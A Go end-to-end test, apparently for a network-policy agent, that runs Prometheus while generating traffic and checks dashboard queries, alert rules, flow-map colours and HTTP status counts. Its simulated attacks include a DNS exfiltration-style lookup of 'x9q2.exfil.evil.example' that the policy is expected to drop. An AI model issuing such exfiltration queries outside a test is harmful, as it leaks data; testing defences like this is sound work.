package e2e_test

import (
	"context"
	"fmt"
	"log/slog"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"bulkhead.dev/bulkhead/deploy"
	"bulkhead.dev/bulkhead/deploy/promtest"
	"bulkhead.dev/bulkhead/testenv"
)

// TestPrometheus runs a real Prometheus in the node that scrapes the agent
// while real traffic runs (HTTP in learn mode first, then normal traffic
// and attacks in protect mode), then executes every expression of the
// Grafana dashboards and the alert rules: every dashboard expression
// returns data, only the alert for violations in protect mode fires, every
// rule evaluates without error, the flow map shows one edge per pair the
// traffic made with the colour of its verdicts, and the HTTP requests of
// the learn phase are counted by the status class of their responses.
func TestPrometheus(t *testing.T) {
	prom := os.Getenv("BULKHEAD_PROMETHEUS")
	if prom == "" {
		prom = promtest.DefaultBinary
	}
	if _, err := os.Stat(prom); err != nil {
		t.Fatalf("no Prometheus at %s (Debian package prometheus; make deps installs it): %v", prom, err)
	}
	b := newBed(t)
	a := b.startAgent()

	// Learn mode (no policy yet): HTTP connections are queued whole, so
	// each request counts with its response's status class.
	const learnRounds = 3
	for range learnRounds {
		b.learnHTTP()
	}
	a.loadPolicy("shop.yaml", shopPolicy)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			if err := b.normalTraffic(); err != nil {
				t.Errorf("normal traffic: %v", err)
			}
			redisCLI(b.fe, "PING")                // denied: frontend → db
			dig(b.api, "x9q2.exfil.evil.example") // dropped: a name no rule allows
			select {
			case <-stop:
				return
			case <-time.After(300 * time.Millisecond):
			}
		}
	})
	defer func() {
		close(stop)
		wg.Wait()
	}()

	srv, err := promtest.Start(ctx, promtest.Config{
		Binary:        prom,
		Targets:       []string{metricsAt.String()},
		RuleFiles:     []string{"../../deploy/prometheus/bulkhead-alerts.yaml"},
		Logger:        slog.New(slog.NewTextHandler(t.Output(), nil)),
		ListenAddress: netip.AddrPortFrom(testenv.NodeIP4, 9090).String(),
		Launch: func(c *exec.Cmd) (func() error, error) {
			p, err := b.n.Node.Start(c)
			if err != nil {
				return nil, err
			}
			return p.Wait, nil
		},
		Client: b.n.Node.HTTPClient(),
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	waitCtx, waitCancel := context.WithTimeout(ctx, 30*time.Second)
	defer waitCancel()
	if err := srv.WaitScrapes(waitCtx, 6); err != nil {
		t.Fatal(err)
	}

	queries, err := promtest.AllQueries(deploy.FS)
	if err != nil {
		t.Fatal(err)
	}
	firing := []string{"BulkheadProtectViolations"}
	outcomes := srv.CheckAll(ctx, queries, promtest.Vars(srv.Job))
	t.Logf("query outcomes:\n%s", promtest.Report(outcomes))
	for _, p := range promtest.Problems(outcomes, firing) {
		t.Error(p)
	}

	// The flow map: one edge per pair the traffic made, with id, source
	// and target (destinations outside the node by their FQDN group),
	// coloured by verdict: red where connections or queries were denied
	// (frontend → db, and api → dns for the dropped query), green where
	// all were allowed.
	const red, green = "#F2495C", "#73BF69"
	want := []string{
		"api->allowed-sites " + green, "api->db " + green, "api->dns " + red,
		"frontend->api " + green, "frontend->db " + red,
	}
	fm, problems := promtest.FlowMapOf(outcomes)
	for _, p := range problems {
		t.Error(p)
	}
	var got []string
	for _, e := range fm.Edges {
		got = append(got, e.ID+" "+e.Color)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("flow map edges and colours (-want +got):\n%s", diff)
	}

	// The learn phase's requests by status class (protect mode counts the
	// later ones as "none": without inspect.responses their answers stay
	// in the kernel).
	res, err := srv.Query(ctx, `bulkhead_http_requests_total{status_class!="none"} > 0`)
	if err != nil {
		t.Fatal(err)
	}
	var classes []string
	for _, s := range res.Samples {
		classes = append(classes, fmt.Sprintf("%s %s %v", s.Labels["method"], s.Labels["status_class"], s.Value))
	}
	slices.Sort(classes)
	wantClasses := []string{
		fmt.Sprintf("GET 2xx %d", 2*learnRounds), fmt.Sprintf("GET 4xx %d", learnRounds), fmt.Sprintf("POST 2xx %d", learnRounds),
	}
	if diff := cmp.Diff(wantClasses, classes); diff != "" {
		t.Errorf("HTTP requests by method and status class (-want +got):\n%s", diff)
	}

	// Every loaded rule evaluates without error; only the alert for
	// violations in protect mode is active.
	problems, err = srv.CheckRules(ctx, firing, 15*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range problems {
		t.Error(p)
	}
}
